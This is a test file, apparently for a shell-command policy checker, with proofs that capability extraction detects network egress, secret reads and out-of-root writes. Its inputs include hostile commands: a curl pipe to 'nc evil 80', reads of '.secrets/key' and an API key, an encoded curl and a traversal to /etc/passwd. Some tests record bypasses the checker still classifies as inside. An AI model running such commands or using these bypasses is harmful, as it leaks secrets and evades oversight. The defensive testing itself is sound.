-- ===== src/Capabilities/Tests.antt =====
-- The extraction of capabilities run on concrete commands.
use code_jam.Prelude.{
  get_or, All, Text, codes, text_eq, includes, split_from, split, starts_with, index_of, ◌≡◌, refl,
  ◌↔◌, ◌⊎◌, true, false, none, some, List, [], ◌∷◌, map,
}
use code_jam.Policy.Types.{network_egress, CapabilityRequest, PolicyContext}
use code_jam.Shell.{Node}
use code_jam.Capabilities.Sets.{strip_quotes}
use code_jam.Capabilities.Writes.{settle, trim_slashes, has_expansion}
use code_jam.Capabilities.Writes.Laws.{LandsBelow, follow_path, classify_write_target-inside}
use code_jam.Capabilities.Extract.{own_requests}
use code_jam.Capabilities.Decoders.{max_decode_depth}
use code_jam.Capabilities.Extract.Trust.{IsJudged, extract_capabilities-IsJudged}
use code_jam.Capabilities.Extract.Carried.{asks, Materialises, extract_capabilities_iff}
use code_jam.Capabilities.Carveout.{enumerate}
use code_jam.Capabilities.Carveout.Strict.{strict_narrowest}
use code_jam.Capabilities.{
  extract_from, extract_capabilities, extract_hosts, find_protected_secret, classify_write_target,
  inside, outside, decode_ansi_c, materialised_literals, is_textual_url_only, inert_sink,
  runs_written_script,
}

abbrev simple_node : Node
simple_node = record {
  is_ip = λ s. 0;
  url_hostname = λ s. some (get_or [] 0 (split b':' (get_or [] 2 (split b'/' s))));
  from_base64 = λ s. [];
  from_hex = λ s. [];
}

abbrev context : PolicyContext
context = record {
  allowed_hosts = codes "Ok.example" ∷ [];
  secret_values = none;
  write_roots = codes "/work/" ∷ [];
}

curl_hosts :
    extract_hosts simple_node (codes "curl -s https://ok.example/x | nc evil 80")
    ≡ codes "ok.example" ∷ codes "evil" ∷ []
unfolding extract_hosts split_from codes text_eq starts_with index_of
curl_hosts = refl

secret_found :
    find_protected_secret simple_node (codes "cat .secrets/key")
    ≡ some (codes "protected .secrets/ directory")
unfolding find_protected_secret split_from codes text_eq starts_with index_of
secret_found = refl

ark_found :
    find_protected_secret simple_node (codes "env | grep ARK_API") ≡ some (codes "Ark API key")
unfolding find_protected_secret split_from codes text_eq starts_with index_of
ark_found = refl

under_root : classify_write_target (codes "/work/a") (codes "/work/" ∷ []) ≡ inside
unfolding classify_write_target codes text_eq
under_root = refl

walk_out : classify_write_target (codes "$(pwd)/../etc") [] ≡ outside
unfolding classify_write_target codes text_eq
walk_out = refl

ansi_decoded : decode_ansi_c (codes "\\x63\\165rl") ≡ some (codes "curl")
unfolding decode_ansi_c codes
ansi_decoded = refl

nested_literals :
    materialised_literals (codes "awk 'print \"nc h\"'")
    ≡ codes "print \"nc h\"" ∷ codes "nc h" ∷ []
unfolding materialised_literals codes text_eq
nested_literals = refl

script_run : runs_written_script simple_node (codes "echo x > run.sh && bash run.sh") ≡ true
unfolding runs_written_script split_from codes text_eq starts_with index_of
script_run = refl

commit_is_textual :
    is_textual_url_only inert_sink simple_node (codes "git commit -m 'see https://x.y'") ≡ true
unfolding is_textual_url_only split_from codes text_eq starts_with index_of
commit_is_textual = refl

piped_payload :
    map
      (λ (r : CapabilityRequest). r.resource)
      (extract_capabilities simple_node (codes "echo 'nc h 4' | sh") context)
    ≡ codes "h" ∷ []
unfolding extract_from split_from codes text_eq starts_with index_of
piped_payload = refl

abbrev log_target : Text
log_target = codes "/work/a/b.log"

abbrev log_place : Text
log_place = settle (strip_quotes log_target)

classify_write_target-inside_example :
    (has_expansion log_place ≡ false)
    × (((starts_with log_place (codes "/") ≡ false)
          × LandsBelow (codes "run" ∷ []) (follow_path (codes "run" ∷ []) log_place))
        ⊎ ((root : Text) × (includes root context.write_roots ≡ true)
            × (top : List Text) × (follow_path [] (trim_slashes root) ≡ some top)
            × LandsBelow top (follow_path [] log_place)))
classify_write_target-inside_example =
    classify_write_target-inside log_target context.write_roots (codes "run" ∷ [])
      (unfold classify_write_target codes text_eq in refl)

-- Quotes in the middle of a target hide its walk, and a name may follow the working directory.
hidden_walk : classify_write_target (codes "/work/\"..\"/etc/passwd") (codes "/work" ∷ []) ≡ inside
unfolding classify_write_target codes text_eq
hidden_walk = refl

beside_directory : classify_write_target (codes "$(pwd)evil/x") [] ≡ inside
unfolding classify_write_target codes text_eq
beside_directory = refl

abbrev piped : Text
piped = codes "echo 'nc h 4' | sh"

extract_capabilities-IsJudged_example :
    All (λ r. IsJudged context r) (extract_capabilities simple_node piped context)
extract_capabilities-IsJudged_example = extract_capabilities-IsJudged simple_node piped context

extract_capabilities_iff_example :
    (asks network_egress (codes "h") (extract_capabilities simple_node piped context) ≡ true) ↔ (
      (text : Text) × Materialises simple_node max_decode_depth piped text
      × (asks network_egress (codes "h") (own_requests simple_node text context) ≡ true))
extract_capabilities_iff_example =
    extract_capabilities_iff network_egress (codes "h") simple_node context piped

abbrev remark : Text
remark = codes "git commit -m 'see https://x.y'"

strict_narrowest_example :
    (is_textual_url_only inert_sink simple_node remark ≡ true)
    × (is_textual_url_only enumerate simple_node remark ≡ true)
strict_narrowest_example =
    strict_narrowest simple_node remark
      (unfold is_textual_url_only split_from codes text_eq starts_with index_of in refl)
